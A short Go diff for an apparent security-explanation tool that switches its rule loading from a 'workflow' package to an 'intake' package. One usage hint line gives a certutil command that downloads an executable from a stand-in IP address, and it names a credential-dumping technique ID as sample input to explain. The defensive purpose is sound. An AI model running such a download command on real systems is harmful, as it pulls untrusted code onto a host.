@@ -8,7 +8,7 @@ import (
 
 	"github.com/casemate-ai/casemate"
 	"github.com/casemate-ai/casemate/internal/security/explain"
-	"github.com/casemate-ai/casemate/internal/security/workflow"
+	"github.com/casemate-ai/casemate/internal/security/intake"
 )
 
 // maxExplain is how much is read to be explained.
@@ -30,7 +30,7 @@ func (c *explainCmd) Run(s *streams) error {
 		return &casemate.Error{Code: casemate.CodeUsage, Message: "explain needs something to explain",
 			Hint: "try: casemate explain 'certutil -urlcache -f http://203.0.113.5/a.exe a.exe', or casemate explain T1003.001"}
 	}
-	rules, err := workflow.LoadRules(nil, false)
+	rules, err := intake.LoadRules(nil, false)
 	if err != nil {
 		return err
 	}
